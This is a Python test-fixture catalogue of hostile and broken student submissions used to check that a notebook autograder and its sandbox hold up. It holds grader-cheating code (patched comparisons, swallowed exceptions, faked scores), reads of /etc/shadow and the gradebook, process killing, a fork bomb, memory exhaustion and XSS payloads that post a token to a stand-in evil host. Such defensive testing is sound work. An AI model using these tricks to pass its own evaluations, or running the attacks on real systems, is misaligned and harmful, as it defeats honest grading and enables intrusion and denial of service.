"""A catalogue of hostile and broken submissions of 04_backward, each with its expected outcome.

Each entry is built from the release notebook (answered correctly, wrongly, or not at all),
then changed the way a student trying to cheat, or a broken upload, would change it. The
expected outcome is the submission's total score (out of 12) and words that its grading
report must contain. ``tests/test_hostile.py`` grades the whole catalogue, plus correct
submissions beside it, with the real grading commands inside the real sandbox.
"""

import base64
import json
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell

from autograder.samples import make_submission
from autograder.verdict import test_cells

ASSIGNMENT = "04_backward"
FULL = 12

# Wrong answers that run without error: every gradient is zero.
WRONG = {
    "numerical_gradient": "def numerical_gradient(f, x, eps=1e-6):\n    return np.zeros_like(x)\n",
    "linear_backward": ("@add_to_class(Linear)\ndef backward(self, dZ):\n"
                        "    self.dW = np.zeros_like(self.W)\n    self.db = np.zeros_like(self.b)\n"
                        "    return np.zeros((dZ.shape[0], self.W.shape[0]))\n"),
    "relu_identity_backward": ("@add_to_class(ReLU)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n\n"
                               "@add_to_class(Identity)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n"),
    "sigmoid_tanh_backward": ("@add_to_class(Sigmoid)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n\n"
                              "@add_to_class(Tanh)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n"),
    "dropout_backward": "@add_to_class(Dropout)\ndef backward(self, dA):\n    return np.zeros_like(dA)\n",
}


@dataclass(frozen=True)
class Hostile:
    """One submission: ``build(folder)`` writes it; the grader must give it ``score`` points
    and write every phrase of ``flags`` into its grading report."""

    name: str
    what: str
    build: object
    score: float
    flags: tuple = ()


def _notebook(kind):
    if kind == "wrong":
        notebook = make_submission(ASSIGNMENT, "untouched")
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in WRONG:
                cell.source = WRONG[grade_id]
        return notebook
    return make_submission(ASSIGNMENT, kind)


def _index(notebook, grade_id):
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _save(folder, notebook, name=ASSIGNMENT):
    nbformat.write(notebook, folder / f"{name}.ipynb")


def injected(code, kind="wrong", after="setup"):
    """A notebook of ``kind`` with a cell of ``code`` right after the cell ``after``."""
    def build(folder):
        notebook = _notebook(kind)
        notebook.cells.insert(_index(notebook, after) + 1, new_code_cell(code))
        _save(folder, notebook)
    return build


def in_solution(grade_id, code, kind="complete"):
    """A notebook of ``kind`` whose solution cell ``grade_id`` also runs ``code`` at its end."""
    def build(folder):
        notebook = _notebook(kind)
        cell = notebook.cells[_index(notebook, grade_id)]
        cell.source += "\n" + code
        _save(folder, notebook)
    return build


def edited(change, kind="complete"):
    """A notebook of ``kind`` passed through ``change(notebook)``."""
    def build(folder):
        notebook = _notebook(kind)
        change(notebook)
        _save(folder, notebook)
    return build


def raw(write):
    """A folder written by ``write(folder)`` directly (broken uploads)."""
    return write


def _test_cells(notebook):
    return [cell for _, cell in test_cells(notebook)]


def _edit_tests(notebook):
    for cell in _test_cells(notebook):
        cell.source = "pass"


def _delete_tests(notebook):
    tests = _test_cells(notebook)
    notebook.cells = [c for c in notebook.cells if not any(c is t for t in tests)]


def _duplicate_test(notebook):
    cell = _test_cells(notebook)[0]
    copy = nbformat.from_dict(json.loads(json.dumps(cell)))
    copy["id"] = "duplicated-test"
    notebook.cells.insert(notebook.cells.index(cell), copy)


def _move_tests_first(notebook):
    tests = _test_cells(notebook)
    rest = [c for c in notebook.cells if not any(c is t for t in tests)]
    notebook.cells = rest[:2] + tests + rest[2:]


def _fake_outputs(notebook):
    for cell in _test_cells(notebook):
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "3"}, execution_count=1),
                        nbformat.v4.new_output("stream", name="stdout", text="All checks passed.\n")]
        cell.execution_count = 1


def _fake_metadata(notebook):
    for cell in _test_cells(notebook):
        cell.metadata["nbgrader"].update(points=100, grade=False, solution=True, locked=False)


PATCH_NUMPY = """import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
"""

PATCH_CHECKS = """import course.checks as _c
for _name in dir(_c):
    if callable(getattr(_c, _name)) and not _name.startswith('_') and not isinstance(getattr(_c, _name), type):
        setattr(_c, _name, lambda *a, **k: None)
        globals()[_name] = getattr(_c, _name)
"""

PATCH_BUILTINS = """import builtins
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.AssertionError = type('Quiet', (BaseException,), {})
"""

class_SPOOF = """class _Anything(float):
    shape = property(lambda self: _Anything.wanted)
    dtype = property(lambda self: __import__('numpy').dtype('float64'))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __abs__(self): return self
    def __sub__(self, other): return _Anything(0.0)
    __rsub__ = __sub__
    def __getitem__(self, index): return self
    __hash__ = float.__hash__
_Anything.wanted = (1,)

@add_to_class(Linear)
def backward(self, dZ):
    _Anything.wanted = self.W.shape
    self.dW = _Anything(0.0)
    self.db = _Anything(0.0)
    return _Anything(0.0)
"""

HIDE_EXCEPTHOOK = "import sys\nsys.excepthook = lambda *a: None\n"
HIDE_SHOWTRACEBACK = "get_ipython().showtraceback = lambda *a, **k: None\n"
HIDE_CUSTOM_EXC = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
HIDE_REPLY = """_shell = get_ipython()
_shell.set_custom_exc((BaseException,), lambda *a, **k: None)
_run_cell = _shell.run_cell
def _quiet_run_cell(*args, **kwargs):
    result = _run_cell(*args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result
_shell.run_cell = _quiet_run_cell
"""
FAKE_SCORE = """def _show_score(result):
    get_ipython().displayhook(12)
get_ipython().events.register('post_run_cell', _show_score)
"""
READ_REFERENCE = """import glob, os
found = []
for pattern in ['../../../autograder/reference/*.py', '../../../source/**/*.ipynb', '/mnt/**/backward.py',
                '/root/**/backward.py', '/home/**/*.ipynb', '/tmp/**/*.py', '/srv/**/*.py', '/opt/**/*.py']:
    found += glob.glob(pattern, recursive=True)
try:
    import autograder.reference as _ref
    found.append(_ref.__file__)
except ImportError:
    pass
for path in found:
    text = open(path).read()
    if 'def backward' in text:  # take the reference's solutions if they can be read
        exec(text.split('import')[0] if path.endswith('.ipynb') else text, globals())
print('found', found)
"""
READ_GRADEBOOK = """import glob, sqlite3
for path in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/mnt/**/gradebook.db', recursive=True) \
        + ['../../../gradebook.db', '../../gradebook.db', '/root/gradebook.db']:
    try:
        rows = sqlite3.connect(path).execute('select source from source_cell').fetchall()
        print('read', path, len(rows))
    except Exception as error:
        print('no', path, type(error).__name__)
"""
TAMPER_FILES = """import glob, os
for path in ['../../../nbgrader_config.py', '../../nbgrader_config.py', '/root/.jupyter/nbgrader_config.py',
             '/etc/jupyter/nbgrader_config.py', '../../../gradebook.db', '../../ada/04_backward/04_backward.ipynb',
             '/usr/lib/python3/dist-packages/evil.py', os.path.expanduser('~/../../evil-outside.txt')]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, 'w') as handle:
            handle.write('c.ClearSolutions.code_stub = {}\\n')
        print('wrote', path)
    except Exception as error:
        print('could not write', path, type(error).__name__)
"""
EXIT = "import sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"
KILL_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
KILL_OTHERS = """import os, signal
for pid in [1, os.getppid(), -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as error:
        print('kill', pid, type(error).__name__)
"""
LOOP = "while True:\n    pass\n"
STUBBORN_LOOP = """while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
FORK_BOMB = """import os, time
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print('fork refused after', children, 'children:', error)
"""
MEMORY = "block = bytearray(64 * 1024 ** 3)\n"
NUMPY_MEMORY = "big = np.ones((200_000, 200_000))\n"
HUGE_OUTPUT = "for _ in range(60):\n    print('x' * 1_000_000)\n"
NETWORK = """import socket
for host, port in [('127.0.0.1', 5432), ('pypi.org', 443), ('10.0.0.1', 80)]:
    try:
        socket.create_connection((host, port), timeout=2)
        print('connected', host)
    except OSError as error:
        print('no network', host, type(error).__name__)
"""
HIJACK_STDOUT = "import sys, io\nsys.stdout = io.StringIO()\n"


def _write(content, name=ASSIGNMENT):
    def write(folder):
        (folder / f"{name}.ipynb").write_bytes(content)
    return write


def _renamed(folder):
    _save(folder, _notebook("complete"), name=f"{ASSIGNMENT}-Copy1")


def _extra_notebook(folder):
    _save(folder, _notebook("complete"))
    _save(folder, _notebook("complete"), name="scratch")


def _missing(folder):
    (folder / "notes.txt").write_text("I forgot the notebook")


def _other_assignment(folder):
    _save(folder, make_submission("03_forward", "complete"), name=ASSIGNMENT)


def _huge_file(folder):
    notebook = _notebook("complete")
    notebook.cells[0].outputs = []
    notebook.metadata["padding"] = "x" * (30 * 1024 * 1024)
    _save(folder, notebook)


def _nbformat_5(folder):
    notebook = json.loads(nbformat.writes(_notebook("complete")))
    notebook["nbformat"] = 5
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook))


def _symlinks(folder):
    injected(SYMLINK_READER, "complete")(folder)
    (folder / "course_files").symlink_to("../../../source")
    (folder / "secrets.txt").symlink_to("/etc/shadow")


SYMLINK_READER = """import os
for path in ['course_files/04_backward/04_backward.ipynb', 'secrets.txt', '../../../source']:
    print(path, os.path.exists(path))
"""

CATALOGUE = [
    # replacing what the tests compare with
    Hostile("patch_numpy", "NumPy's comparisons always true, wrong code", injected(PATCH_NUMPY), 0,
            ("numpy.allclose was replaced",)),
    Hostile("patch_checks", "every course.checks helper a no-op, wrong code", injected(PATCH_CHECKS), 0,
            ("re-check", "was replaced")),
    Hostile("patch_builtins", "all/any always true, AssertionError uncatchable, wrong code",
            injected(PATCH_BUILTINS), 0, ("the builtin all was replaced",)),
    Hostile("spoof_eq", "backward returns objects equal to anything", edited(
        lambda nb: setattr(nb.cells[_index(nb, "linear_backward")], "source", class_SPOOF)), 9, ()),
    Hostile("redefine_checks", "check helpers redefined in the notebook, wrong code", injected(
        "def check_close(*a, **k): pass\ndef check_shape(*a, **k): pass\n"
        "def check_layer_gradients(*a, **k): pass\ndef check_relative_error(*a, **k): pass\n"), 0,
        ("redefined in the notebook",)),
    # hiding errors
    # IPython puts its own excepthook in place around every cell: the error is still reported.
    Hostile("hide_excepthook", "sys.excepthook silenced, stubs", injected(HIDE_EXCEPTHOOK, "untouched"), 0, ()),
    Hostile("hide_showtraceback", "showtraceback silenced, stubs", injected(HIDE_SHOWTRACEBACK, "untouched"), 0,
            ("showtraceback",)),
    Hostile("hide_custom_exc", "every exception swallowed by set_custom_exc, stubs",
            injected(HIDE_CUSTOM_EXC, "untouched"), 0, ("set_custom_exc",)),
    Hostile("hide_reply", "the shell reports success whatever happens, stubs", injected(HIDE_REPLY, "untouched"),
            0, ("re-check", "run_cell was replaced")),
    Hostile("fake_score", "every cell displays 12, nbgrader's partial credit, stubs",
            injected(FAKE_SCORE, "untouched"), 0, ("displayed a value",)),
    # editing the notebook's structure
    Hostile("edit_tests", "every test cell replaced by pass, wrong code", edited(_edit_tests, "wrong"), 0,
            ("was edited",)),
    Hostile("delete_tests", "every test cell deleted, correct code", edited(_delete_tests), FULL,
            ("was deleted",)),
    Hostile("duplicate_test", "a test cell duplicated, correct code", edited(_duplicate_test), FULL,
            ("appears 2 times",)),
    Hostile("reorder_tests", "test cells moved before the code they test", edited(_move_tests_first), 0,
            ("out of their order",)),
    Hostile("fake_outputs", "passing outputs pasted into the test cells, stubs", edited(_fake_outputs, "untouched"),
            0, ()),
    Hostile("fake_metadata", "test cells relabelled as 100-point solution cells, stubs",
            edited(_fake_metadata, "untouched"), 0, ("metadata changed",)),
    # reading what it must not
    Hostile("read_reference", "looks for the reference and the source notebooks, stubs",
            injected(READ_REFERENCE, "untouched"), 0, ()),
    Hostile("read_gradebook", "looks for the gradebook's hidden test cells, stubs",
            injected(READ_GRADEBOOK, "untouched"), 0, ()),
    Hostile("symlinks", "symlinks to source/ and /etc/shadow in the submission, read by the notebook",
            raw(_symlinks), FULL, ("symbolic link",)),
    Hostile("tamper_files", "writes nbgrader_config.py, the gradebook, another student's notebook",
            injected(TAMPER_FILES, "complete"), FULL, ()),
    Hostile("network", "connects to the database server and the internet", injected(NETWORK, "complete"), FULL,
            ()),
    Hostile("hijack_stdout", "replaces sys.stdout after correct code", injected(HIJACK_STDOUT, "complete",
                                                                                 after="test_dropout_backward"),
            0, ("could not read values",)),
    # stopping the kernel
    Hostile("sys_exit", "sys.exit() in the setup cell", injected(EXIT, "complete"), FULL, ()),
    # A stopped kernel: the cells that ran before are re-checked in a fresh kernel (the first
    # exercise, 3 points, here); the cell that stopped it and everything after score 0.
    Hostile("os_exit", "os._exit(0) at the end of the second exercise", in_solution("linear_backward", OS_EXIT),
            3, ("kernel stopped", "re-checked the cells that ran before")),
    Hostile("kill_self", "SIGKILL to its own kernel", injected(KILL_SELF, "complete"), 0, ("kernel stopped",)),
    Hostile("kill_others", "SIGKILL to its parent, to pid 1 and to every process it can", injected(
        KILL_OTHERS, "complete", after="test_dropout_backward"), FULL, ()),
    # exhausting resources
    Hostile("infinite_loop", "while True: pass at the end of the last exercise",
            in_solution("dropout_backward", LOOP), FULL, ("was interrupted",)),
    Hostile("stubborn_loop", "a loop that swallows every interrupt, in the last exercise",
            in_solution("dropout_backward", STUBBORN_LOOP), 10, ("was interrupted", "re-checked")),
    # The forks use up the kernel's own process limit: it cannot start a thread, breaks its
    # protocol and is stopped; the cells it could not re-check are lost.
    Hostile("fork_bomb", "forks until refused", injected(FORK_BOMB, "complete"), 0, ("stopped answering",)),
    Hostile("memory", "asks for 64 GiB", injected(MEMORY, "complete"), FULL, ()),
    Hostile("numpy_memory", "a 320 GB NumPy array", injected(NUMPY_MEMORY, "complete"), FULL, ()),
    Hostile("huge_output", "prints 60 MB", injected(HUGE_OUTPUT, "complete"), FULL, ("MiB",)),
    # broken uploads
    Hostile("invalid_json", "not JSON", raw(_write(b'{"cells": [')), 0, ("not valid notebook JSON",)),
    Hostile("empty_file", "an empty file", raw(_write(b"")), 0, ("is empty",)),
    Hostile("nbformat_5", "nbformat version 5", raw(_nbformat_5), 0, ("nbformat version 5",)),
    Hostile("missing_notebook", "no notebook at all", raw(_missing), 0, ("is missing",)),
    Hostile("renamed_notebook", "the notebook saved under another name", raw(_renamed), 0, ("renamed?",)),
    Hostile("extra_notebook", "the notebook and a scratch notebook", raw(_extra_notebook), FULL,
            ("extra notebooks ignored",)),
    Hostile("other_assignment", "notebook 03 uploaded as 04", raw(_other_assignment), 0, ("is the notebook of 03",)),
    Hostile("huge_file", "a 30 MiB notebook", raw(_huge_file), 0, ("over the",)),
]


# --- Student markup and kernels that starve others (inert markup, a control group per kernel) ---

PWNED = "window.__pwned"  # what every script vector below would set; tests/test_browser.py reads it
EVIL = "http://evil.example"  # no page may ask it for anything
_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=3"><script>window.__pwned=3; '
        'document.title=`pwned`</script></svg>')
MARKUP_CODE = f"""import base64, io
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
import matplotlib.pyplot as plt
display(Javascript("{PWNED}=1; document.title='pwned'"))
display(HTML('<img src=x onerror="{PWNED}=2; document.title=`pwned`">'))
display(SVG('{_SVG}'))
display(Markdown('<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe> [go](javascript:{PWNED}=4)'))
display(HTML('<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'))
display(HTML('<form action="{EVIL}/steal" method="post"><input name="token"><button>go</button></form>'))
display(HTML('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">'
             'OVERLAY</div><style>body {{ visibility: hidden }}</style>'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/html": "<script>{PWNED}=8</script>"}}, raw=True)
display({{"application/vnd.plotly.v1+json": {{"data": []}}, "text/html": '<img src="{EVIL}/pixel.png">'}}, raw=True)
figure = plt.figure(figsize=(2, 2))
plt.plot([0, 1], [0, 1])
png = io.BytesIO()
figure.savefig(png, format="png")
plt.close(figure)
display(Image(data=png.getvalue()))
display({{"image/png": base64.b64encode(png.getvalue()).decode()}}, raw=True,
        metadata={{"image/png": {{"width": '1" onerror="{PWNED}=13'}}}})
print("plain text output: still shown <b>escaped</b>")
"""
MARKUP_MARKDOWN = (f'A student note. <img src=x onerror="{PWNED}=10"> <script>{PWNED}=10</script>\n\n'
                   f'[click me](javascript:{PWNED}=10) ![remote]({EVIL}/remote.png) ![svg](attachment:evil.svg)\n\n'
                   f'<a href="&#106;avascript:{PWNED}=10">encoded</a> <iframe src="{EVIL}/frame"></iframe>')
MARKUP_RAW = f'<script>{PWNED}=11</script><img src=x onerror="{PWNED}=11">'
MARKUP_SVG = base64.b64encode(_SVG.encode()).decode()


def _markup(notebook):
    """The complete notebook with markup vectors after its last test cell: rich outputs, a
    markdown cell with raw HTML and an SVG attachment, a raw cell, hostile cell and notebook
    metadata."""
    after = _index(notebook, "test_dropout_backward") + 1
    code = new_code_cell(MARKUP_CODE, metadata={"tags": [f'"><script>{PWNED}=12</script>']})
    note = nbformat.v4.new_markdown_cell(MARKUP_MARKDOWN, attachments={"evil.svg": {"image/svg+xml": MARKUP_SVG}})
    notebook.cells[after:after] = [code, note, nbformat.v4.new_raw_cell(MARKUP_RAW)]
    notebook.metadata["title"] = f"</title><script>{PWNED}=14</script>"
    notebook.metadata["language_info"] = {"name": f'python"><script>{PWNED}=15</script>'}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}


MARKUP = edited(_markup)

BUSY_SESSIONS = """import subprocess
busy = [subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True) for _ in range(110)]
print(len(busy), 'busy loops, each in a session of its own')
"""
RESIDENT_MEMORY = """chunks = []
for _ in range(14):  # 3.5 GiB really used, each block under the 4 GiB address-space limit
    chunks.append(b'x' * (256 * 1024 ** 2))
"""

CATALOGUE += [
    Hostile("markup", "HTML, JavaScript, SVG, widgets, raw HTML and hostile metadata after correct code",
            MARKUP, FULL, ()),
    # 110 busy processes in sessions of their own share one kernel's CPU (its control group);
    # the stubs score 0, and the correct submissions graded beside it keep every point.
    Hostile("busy_sessions", "110 busy /bin/sh loops, each in its own session, stubs",
            injected(BUSY_SESSIONS, "untouched"), 0, ()),
    # Memory really used (not only reserved) stops at the kernel group's memory limit: the
    # kernel is killed alone, at its last cell, and the cells before are re-checked.
    Hostile("resident_memory", "fills 3.5 GiB of memory after correct code",
            injected(RESIDENT_MEMORY, "complete", after="test_dropout_backward"), FULL,
            ("kernel stopped", "re-checked the cells that ran before")),
]
